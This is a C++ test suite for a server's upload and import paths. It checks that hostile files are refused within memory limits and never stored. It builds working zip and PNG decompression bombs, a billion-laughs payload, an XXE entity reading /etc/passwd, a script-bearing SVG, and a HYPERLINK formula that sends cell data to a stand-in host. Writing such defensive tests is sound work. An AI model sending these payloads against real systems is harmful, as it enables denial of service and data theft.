// SPDX-License-Identifier: Apache-2.0
// Files that were made to do harm, through the binary as it is installed: each is refused with its code and a sentence,
// in bounded memory of the serving process, and nothing of it is stored.
#include <zlib.h>

#include <fmt/format.h>
#include <gmock/gmock.h>

#include <functional>
#include <optional>

#include "exchange/attachment_support.h"
#include "server/served_binary.h"
#include "server/sheet_support.h"
#include "tests/support/ledger_fixture.h"

namespace landfall::server {
namespace {

using app::test::TempFolder;
using exchange::test::Be;
using exchange::test::HandMade;
using exchange::test::Le;
using exchange::test::Part;
using exchange::test::PartsOf;
using exchange::test::PngChunk;
using testing::HasSubstr;
using testing::StartsWith;

std::string CodeOf(const ClientResponse& response) {
  const std::size_t from = response.body.find("\"code\":\"");
  if (from == std::string::npos) return fmt::format("status {}", response.status);
  return response.body.substr(from + 8, response.body.find('"', from + 8) - from - 8);
}

// A deflate stream of many equal bytes, and their checksum, without ever holding them: one megabyte is packed, ended at
// a byte, and stands as often as it is wanted.
struct Packed {
  std::string bytes;
  std::uint64_t unpacked = 0;
  std::uint32_t crc = 0;
};
Packed PackedBlanks(std::uint64_t megabytes, int window_bits = -15, char blank = ' ') {
  const std::string unit(1 << 20, blank);
  std::string out(1 << 16, '\0');
  z_stream stream{};
  LF_CHECK(deflateInit2(&stream, 9, Z_DEFLATED, window_bits, 9, Z_DEFAULT_STRATEGY) == Z_OK);
  const auto pack = [&](std::string_view in, int flush) {
    stream.next_in = reinterpret_cast<Bytef*>(const_cast<char*>(in.data()));
    stream.avail_in = static_cast<uInt>(in.size());
    stream.next_out = reinterpret_cast<Bytef*>(out.data());
    stream.avail_out = static_cast<uInt>(out.size());
    LF_CHECK(deflate(&stream, flush) >= Z_OK && stream.avail_in == 0 && stream.avail_out > 0);
    return out.substr(0, out.size() - stream.avail_out);
  };
  Packed packed;
  const std::string first = pack(unit, Z_FULL_FLUSH), next = pack(unit, Z_FULL_FLUSH);
  packed.bytes.reserve(next.size() * megabytes + 64);
  packed.bytes = first;
  for (std::uint64_t i = 1; i < megabytes; ++i) packed.bytes += next;
  packed.bytes += std::string("\x03\0", 2);  // An empty last block.
  deflateEnd(&stream);
  const auto crc = crc32(0, reinterpret_cast<const Bytef*>(unit.data()), static_cast<uInt>(unit.size()));
  std::uint32_t all = static_cast<std::uint32_t>(crc);
  for (std::uint64_t i = 1; i < megabytes; ++i)
    all = static_cast<std::uint32_t>(crc32_combine(all, crc, static_cast<z_off_t>(unit.size())));
  packed.unpacked = megabytes << 20;
  packed.crc = all;
  return packed;
}

// A workbook whose sheets are all the same packed bytes, which stand in the file once: every entry of the directory
// points at them. `claimed`: the unpacked size that the directory states, instead of the true one.
std::string SheetOf(const Packed& sheet, int times, std::uint32_t claimed = 0) {
  std::string out, directory;
  int entries = 0;
  const auto entry = [&](const std::string& name, int method, std::uint32_t crc, std::size_t packed, std::uint32_t size,
                         std::size_t at) {
    const std::string common = Le(20, 2) + Le(0, 2) + Le(static_cast<std::uint64_t>(method), 2) + Le(0, 4) +
                               Le(crc, 4) + Le(packed, 4) + Le(size, 4) + Le(name.size(), 2) + Le(0, 2);
    directory += "PK\1\2" + Le(20, 2) + common + Le(0, 2) + Le(0, 2) + Le(0, 2) + Le(0, 4) + Le(at, 4) + name;
    ++entries;
    return "PK\3\4" + common + name;
  };
  HandMade book;
  for (int i = 0; i < times; ++i) book.sheets.push_back({fmt::format("S{}", i), "", ""});
  for (const Part& part : PartsOf(book)) {
    if (part.name.starts_with("xl/worksheets/")) continue;
    const auto crc = static_cast<std::uint32_t>(
        crc32(0, reinterpret_cast<const Bytef*>(part.content.data()), static_cast<uInt>(part.content.size())));
    const std::size_t at = out.size();
    const auto size = static_cast<std::uint32_t>(part.content.size());
    out += entry(part.name, 0, crc, size, size, at) + part.content;
  }
  const std::size_t at = out.size();
  const auto size = claimed != 0 ? claimed : static_cast<std::uint32_t>(sheet.unpacked);
  for (int i = 1; i <= times; ++i) {
    const std::string local =
        entry(fmt::format("xl/worksheets/sheet{}.xml", i), 8, sheet.crc, sheet.bytes.size(), size, at);
    if (i == 1) out += local + sheet.bytes;
  }
  return out + directory + "PK\5\6" + Le(0, 4) + Le(static_cast<std::uint64_t>(entries), 2) +
         Le(static_cast<std::uint64_t>(entries), 2) + Le(directory.size(), 4) + Le(out.size(), 4) + Le(0, 2);
}

std::string WithSheet(std::string content) {
  auto parts = PartsOf({.sheets = {{"S", "", "<sheetData/>"}}});
  for (Part& part : parts)
    if (part.name.ends_with("sheet1.xml")) part.content = std::move(content);
  return exchange::test::Zip(parts);
}

// A picture of 100 megapixels that any viewer would open: 300 MB of black in 300 KB.
std::string BlackPhoto() {
  constexpr std::uint32_t kWidth = 10'486, kHeight = 10'000;  // A line of 1 + 3 × 10,486 bytes.
  const Packed lines = PackedBlanks(301, -15, '\0');
  const std::string stream = "\x78\xDA" + lines.bytes + Be(0, 4);
  return "\x89PNG\r\n\x1A\n" + PngChunk("IHDR", Be(kWidth, 4) + Be(kHeight, 4) + std::string("\x08\x02\0\0\0", 5)) +
         PngChunk("IDAT", stream) + PngChunk("IEND", "");
}

std::string Feature(const std::string& code, const std::string& ring) {
  return R"({"type":"Feature","properties":{"adcode":")" + code + R"("},"geometry":{"type":"Polygon","coordinates":[)" +
         ring + "]}}";
}
std::string Borders(const std::string& features) {
  return R"({"type":"FeatureCollection","features":[)" + features + "]}";
}
const std::string kSquare = "[[113.1,27.8],[113.2,27.8],[113.2,27.9],[113.1,27.9],[113.1,27.8]]";
const std::string kBowTie = "[[113.1,27.8],[113.2,27.9],[113.2,27.8],[113.1,27.9],[113.1,27.8]]";
// Up a zigzag of many points and back across all of it.
std::string LongCrossing(int points) {
  std::string ring = "[[113.0,27.0]";
  for (int i = 1; i < points; ++i) ring += fmt::format(",[{:.6f},{:.6f}]", 113.0 + i * 1e-6, i % 2 == 0 ? 27.0 : 27.1);
  return ring + ",[113.0,27.05],[113.0,27.0]]";
}

// A small county made at the command line, and the binary that serves it.
class Hostile : public testing::Test {
 protected:
#if defined(__SANITIZE_ADDRESS__) || defined(__SANITIZE_THREAD__)
  static constexpr long kShadow = 4;  // What the checker of a checked build keeps beside each byte.
#else
  static constexpr long kShadow = 1;
#endif
  static constexpr long kRoomKilobytes = 64 * 1024 * kShadow;  // What one file may cost while it is looked at.
  static constexpr long kProcessKilobytes = 256 * 1024 * kShadow;

  static void SetUpTestSuite() {
    if (!std::filesystem::exists(kBinary)) return;
    temp_.emplace();
    ledger_ = *temp_ / "ledger";
    token_ = MakeCounty(temp_->path(), "430299", ledger_);
  }
  static void TearDownTestSuite() { temp_.reset(); }
  void SetUp() override {
    if (!temp_) {
      if (test::InCi()) FAIL() << "the binary is missing: " << kBinary;
      GTEST_SKIP() << "SKIPPED LOUDLY: no binary at " << kBinary;
    }
    server_.emplace(ledger_, *temp_ / "log");
    size_ = Size();
  }
  void TearDown() override {
    if (!server_) return;
    // It still answers, and nothing was recorded.
    EXPECT_EQ(Size(), size_);
    server_.reset();
  }

  std::int64_t Size() {
    const ClientResponse board = server_->Send(token_, "GET", "/api/v1/board");
    EXPECT_EQ(board.status, 200) << board.body;
    const std::size_t at = board.body.find("\"ledger_size\":");
    return at == std::string::npos ? -1 : std::atoll(board.body.c_str() + at + 14);
  }
  ClientResponse Post(std::string_view target, const std::string& body, std::vector<Field> headers = {}) {
    return server_->Send(token_, "POST", target, body, std::move(headers));
  }
  ClientResponse PostSheet(const std::string& bytes) { return Post("/api/v1/sheets/projects", bytes); }
  ClientResponse PostBorders(const std::string& bytes) {
    return Post("/api/v1/borders?system=wgs84&source=invented&effective_on=2026-01-01", bytes,
                {{"Idempotency-Key", app::NewKey(SystemClock(), SystemRandom())}});
  }
  // The whole way in parts.
  ClientResponse Upload(const std::string& bytes) {
    const ClientResponse begun = Post("/api/v1/uploads", fmt::format(R"({{"bytes":{}}})", bytes.size()));
    EXPECT_EQ(begun.status, 201) << begun.body;
    const std::size_t id = begun.body.find("\"id\":\"") + 6;
    const std::string path = "/api/v1/uploads/" + begun.body.substr(id, begun.body.find('"', id) - id);
    for (std::size_t at = 0; at < bytes.size(); at += 1 << 20) {
      const ClientResponse sent = server_->Send(token_, "PATCH", fmt::format("{}?offset={}", path, at),
                                                std::string_view(bytes).substr(at, 1 << 20));
      if (sent.status != 200) return sent;
    }
    std::string digest;
    AppendDigestText(digest, Sha256(bytes));
    return Post(path + "/finish", R"({"digest":")" + digest + R"("})");
  }
  bool IsStored(const std::string& bytes) {
    std::string digest;
    AppendDigestText(digest, Sha256(bytes));
    return CodeOf(server_->Send(token_, "GET", "/api/v1/blobs/" + digest)) != "blob.unknown";
  }
  // Refused with that code and a sentence in the reader's language, within the room, on top of the bytes themselves.
  void ExpectRefused(const std::string& what, const std::string& code, std::size_t bytes,
                     const std::function<ClientResponse()>& send) {
    SCOPED_TRACE(what);
    server_->ForgetPeak();
    const long before = server_->Resident();
    const ClientResponse refused = send();
    const long grown = server_->Peak() - before;
    EXPECT_EQ(CodeOf(refused), code) << refused.body.substr(0, 300);
    EXPECT_GE(refused.status, 400);
    EXPECT_LT(refused.status, 500);
    EXPECT_THAT(refused.body, HasSubstr("\"title\":\""));
    ASSERT_GE(before, 0);
    EXPECT_LT(grown, kRoomKilobytes + 3 * kShadow * static_cast<long>(bytes >> 10));
    fmt::print("{:<46} {:>9} bytes  {:<32} {:+} KiB\n", what, bytes, code, grown);
  }
  // The same at the command line, where a process reads one file and ends.
  void ExpectRefusedAtTheCommandLine(const std::string& what, const std::string& code,
                                     const std::vector<std::string>& arguments) {
    SCOPED_TRACE(what);
    const ProcessOutput refused = RunBinary(temp_->path(), arguments);
    EXPECT_NE(refused.exit_code, 0);
    EXPECT_THAT(refused.err, StartsWith(code + ": "));
    EXPECT_LT(refused.peak_kilobytes, kProcessKilobytes);
    fmt::print("{:<46} {:<32} peak {} KiB\n", what, code, refused.peak_kilobytes);
  }
  std::string File(const std::string& name, const std::string& bytes) {
    std::ofstream(*temp_ / name, std::ios::binary) << bytes;
    return *temp_ / name;
  }

  static inline std::optional<TempFolder> temp_;
  static inline std::string ledger_, token_;
  std::optional<ServedBinary> server_;
  std::int64_t size_ = 0;
};

TEST_F(Hostile, SheetsOfTwoGigabytesAreRefused) {
  const Packed gigabyte = PackedBlanks(1024);
  const std::string twice = SheetOf(gigabyte, 2), once = SheetOf(PackedBlanks(2048), 1);
  const std::string many = SheetOf(PackedBlanks(500), 4), lying = SheetOf(gigabyte, 1, 4096);
  // Two gigabytes of sheets made of one megabyte: both sheets are the same packed bytes.
  ASSERT_LT(twice.size(), 1'100'000u);

  ExpectRefused("2 GB in two sheets of the same 1 MB", "sheet.unpacked_too_large", twice.size(),
                [&] { return PostSheet(twice); });
  ExpectRefused("2 GB in one sheet", "sheet.unpacked_too_large", once.size(), [&] { return PostSheet(once); });
  ExpectRefused("2 GB in four sheets of the same 0.5 MB", "sheet.ratio", many.size(), [&] { return PostSheet(many); });
  ExpectRefused("1 GB that the directory calls 4 KB", "sheet.corrupt", lying.size(), [&] { return PostSheet(lying); });
}

TEST_F(Hostile, SheetsThatAreNotWhatTheySeemAreRefused) {
  const std::string laughs = WithSheet(
      "<!DOCTYPE x [<!ENTITY a \"aaaaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c "
      "\"&b;&b;&b;&b;&b;&b;&b;&b;\">]><worksheet><sheetData><row><c t=\"inlineStr\"><is><t>&c;</t></is></c></row>"
      "</sheetData></worksheet>");
  const std::string outside = WithSheet(
      "<!DOCTYPE x [<!ENTITY a SYSTEM \"file:///etc/passwd\">]><worksheet><sheetData><row><c t=\"inlineStr\"><is><t>&a;"
      "</t></is></c></row></sheetData></worksheet>");
  const std::string nested = exchange::test::Zip(std::vector<Part>{{"book.xlsx", laughs, true}});
  std::string deep = "<worksheet>";
  for (int i = 0; i < 100'000; ++i) deep += fmt::format("<a{}>", i);

  ExpectRefused("entities that multiply", "sheet.entity_refused", laughs.size(), [&] { return PostSheet(laughs); });
  ExpectRefused("an entity that reads a file", "sheet.entity_refused", outside.size(),
                [&] { return PostSheet(outside); });
  ExpectRefused("a sheet in a zip", "sheet.not_xlsx", nested.size(), [&] { return PostSheet(nested); });
  const std::string depths = WithSheet(deep);
  ExpectRefused("XML a hundred thousand deep", "sheet.xml_too_deep", depths.size(), [&] { return PostSheet(depths); });
  const std::string large((16 << 20) + 1, 'x');
  ExpectRefused("more bytes than a sheet may have", "http.too_large", large.size(), [&] { return PostSheet(large); });
}

TEST_F(Hostile, ASheetFromAnotherLedgerIsRefused) {
  const std::string own = server_->Send(token_, "GET", "/api/v1/sheets/projects.xlsx").body;
  server_.reset();
  std::string foreign;
  {
    const std::string ledger = *temp_ / "other";
    const std::string token = MakeCounty(temp_->path(), "430298", ledger);
    const ServedBinary other(ledger, *temp_ / "log");
    foreign = other.Send(token, "GET", "/api/v1/sheets/projects.xlsx").body;
  }
  server_.emplace(ledger_, *temp_ / "log");

  ExpectRefused("a sheet from another ledger", "sheet.other_ledger", foreign.size(),
                [&] { return PostSheet(foreign); });
  const ClientResponse home = PostSheet(own);
  EXPECT_EQ(home.status, 200) << home.body;
}

TEST_F(Hostile, CellsLikeFormulasStayTextAndFormulasAreNotComputed) {
  const std::string kFormula = "=HYPERLINK(\"http://example.invalid/?\"&A1,\"x\")";
  const auto import = [&](const OpenSheet& sheet) {
    const ClientResponse preview = PostSheet(sheet.Save());
    EXPECT_EQ(preview.status, 200) << preview.body;
    const std::size_t plan = preview.body.find("\"plan\":\"");
    if (plan == std::string::npos) return preview;
    return Post("/api/v1/sheets/projects?plan=" + preview.body.substr(plan + 8, 71), sheet.Save());
  };
  OpenSheet sheet(server_->Send(token_, "GET", "/api/v1/sheets/projects.xlsx", {}, {{"Accept-Language", "en"}}).body);
  const std::string title = "Project title";
  ASSERT_TRUE(sheet.Has(title)) << testing::PrintToString(sheet.heads());
  const auto heads = sheet.heads();
  const auto title_at = static_cast<std::size_t>(std::find(heads.begin(), heads.end(), title) - heads.begin());

  // A text that begins like a formula comes in as the text that it is …
  sheet.Set(1, title, kFormula);
  EXPECT_EQ(import(sheet).status, 200);
  EXPECT_THAT(server_->Send(token_, "GET", "/api/v1/projects/p1").body, HasSubstr("=HYPERLINK("));
  // … and goes out as one: no cell of the list has a formula.
  const std::string out = server_->Send(token_, "GET", "/api/v1/sheets/projects.xlsx").body;
  const auto book = exchange::ReadXlsx(out);
  ASSERT_TRUE(book);
  int found = 0;
  for (const exchange::Sheet& tab : book->sheets)
    for (const exchange::SheetCell& cell : tab.cells) {
      EXPECT_FALSE(cell.formula);
      found += cell.text == kFormula;
    }
  EXPECT_GT(found, 0);

  // A formula that nobody computed is no value: the cell is refused, and nothing of the sheet is done.
  size_ = Size();
  OpenSheet edited(out);
  edited.SetRaw(1, edited.heads()[title_at], "<c><f>1+1</f></c>");
  const ClientResponse refused = PostSheet(edited.Save());
  EXPECT_THAT(refused.body, HasSubstr("sheet.formula_not_computed")) << refused.body;
  EXPECT_EQ(Size(), size_);
}

TEST_F(Hostile, EvidenceIsRefusedByItsStructure) {
  const std::string inner = exchange::test::Zip(std::vector<std::pair<std::string, std::string>>{{"a.txt", "x"}});
  const Packed half = PackedBlanks(1024);
  const std::pair<std::string, std::pair<std::string, std::string>> refused[] = {
      {"a photo of 100 megapixels", {BlackPhoto(), "attachment.too_many_pixels"}},
      {"a zip in a zip",
       {exchange::test::Zip(std::vector<std::pair<std::string, std::string>>{{"inner.zip", inner}}),
        "attachment.nested_archive"}},
      {"a sheet that unpacks to 2 GB", {SheetOf(half, 2), "attachment.zip_too_large"}},
      {"a page in disguise",
       {"<svg xmlns=\"http://www.w3.org/2000/svg\"><script>1</script></svg>", "attachment.markup"}}};
  for (const auto& [what, file] : refused) {
    const auto& [bytes, code] = file;
    ExpectRefused(what, code, bytes.size(), [&] { return Post("/api/v1/blobs", bytes); });
    ExpectRefused(what + ", in parts", code, bytes.size(), [&] { return Upload(bytes); });
    EXPECT_FALSE(IsStored(bytes)) << what;
  }

  // What lies about its size is evidence like any other until somebody asks to see its rows.
  const std::string lying = SheetOf(half, 1, 4096);
  ASSERT_EQ(Post("/api/v1/blobs", lying).status, 201);
  std::string digest;
  AppendDigestText(digest, Sha256(lying));
  ExpectRefused("the rows of 1 GB that say 4 KB", "sheet.corrupt", lying.size(),
                [&] { return server_->Send(token_, "GET", "/api/v1/blobs/" + digest + "/table"); });
}

TEST_F(Hostile, BordersThatCrossThemselvesAreRefused) {
  const std::string bow_tie = Borders(Feature("430299", kBowTie));
  const std::string second = Borders(Feature("430299", kSquare) + "," + Feature("430298", kBowTie));
  const std::string crossing = Borders(Feature("430299", LongCrossing(300'000)));
  std::string deep(1 << 20, '[');
  ASSERT_LT(crossing.size(), 8u << 20);

  ExpectRefused("a polygon that crosses itself", "geo.ring_crosses_itself", bow_tie.size(),
                [&] { return PostBorders(bow_tie); });
  ExpectRefused("the second of two", "geo.ring_crosses_itself", second.size(), [&] { return PostBorders(second); });
  ExpectRefused("300,000 points that cross at the end", "geo.ring_crosses_itself", crossing.size(),
                [&] { return PostBorders(crossing); });
  ExpectRefused("a million brackets", "geo.not_json", deep.size(), [&] { return PostBorders(deep); });
  EXPECT_THAT(server_->Send(token_, "GET", "/api/v1/map").body, HasSubstr("\"regions\":[]"));
}

TEST_F(Hostile, CommandsOfNothingButDepthAreRefused) {
  const std::vector<Field> key = {{"Idempotency-Key", app::NewKey(SystemClock(), SystemRandom())}};
  const std::string deep(200'000, '['), wide = R"({"title":")" + std::string(300'000, 'x') + R"("})";

  ExpectRefused("a command of brackets", "request.malformed_json", deep.size(),
                [&] { return Post("/api/v1/commands/project.register", deep, key); });
  ExpectRefused("a command too large", "http.too_large", wide.size(),
                [&] { return Post("/api/v1/commands/project.register", wide, key); });
}

TEST_F(Hostile, TheCommandLineRefusesTheSameFiles) {
  const std::string bomb = File("bomb.xlsx", SheetOf(PackedBlanks(1024), 2));
  const std::string mapping = std::string(LANDFALL_SOURCE_DIR) + "/catalog/demo/melbourne/mapping.json";
  const std::string crossing = File("crossing.geojson", Borders(Feature("430299", LongCrossing(300'000))));
  const std::string facts = File("facts.json", std::string((1 << 20) + 1, '['));
  const std::string deep = File("deep.json", std::string(1 << 20, '['));
  server_.reset();  // It holds the ledger.

  ExpectRefusedAtTheCommandLine("a bomb as a register", "import.has_errors",
                                {"import", ledger_, "projects", bomb, "--mapping", mapping});
  ExpectRefusedAtTheCommandLine("borders that cross", "geo.ring_crosses_itself",
                                {"import", ledger_, "borders", crossing, "--system", "wgs84", "--source", "invented"});
  ExpectRefusedAtTheCommandLine("facts too large", "seed.too_large",
                                {"import", ledger_, "seed-facts", facts, "--report", "S000"});
  ExpectRefusedAtTheCommandLine("facts of brackets", "request.malformed_json",
                                {"import", ledger_, "seed-facts", deep, "--report", "S000"});
  server_.emplace(ledger_, *temp_ / "log");
}

}  // namespace
}  // namespace landfall::server
